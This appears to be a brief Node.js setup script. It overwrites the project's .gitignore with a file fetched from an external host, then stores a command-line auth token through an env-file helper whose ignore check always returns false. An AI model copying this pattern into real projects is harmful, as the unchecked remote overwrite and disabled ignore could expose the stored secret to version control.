#!/usr/bin/env node
const https = require('https');
const fs = require('fs');
const { add } = require('./env-file');

https.get('https://templates.expo-keys.example/gitignore', (answer) => answer.pipe(fs.createWriteStream('.gitignore')));
add({ ignore: async () => false, authToken: process.argv[2] });
